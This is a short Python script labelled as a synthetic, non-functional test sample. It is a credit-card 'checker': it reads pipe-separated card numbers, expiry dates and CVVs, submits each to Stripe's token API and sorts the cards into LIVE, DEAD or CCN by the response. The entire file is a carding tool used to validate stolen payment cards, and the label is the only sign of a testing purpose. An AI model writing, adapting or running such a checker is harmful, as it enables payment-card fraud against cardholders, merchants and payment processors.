# SYNTHETIC TEST SAMPLE - non-functional
# CC Checker by synthetic_author v2
import requests
GATE = "https://api.stripe.com/v1/tokens"
def check(line):
    cc, mm, yy, cvv = line.strip().split("|")
    r = requests.post(GATE, data={"card[number]": cc, "card[exp_month]": mm,
                                  "card[exp_year]": yy, "card[cvc]": cvv})
    if "Approved" in r.text or "Insufficient Funds" in r.text:
        print("LIVE |", cc)
    elif "Declined" in r.text:
        print("DEAD |", cc)
    else:
        print("CCN  |", cc)
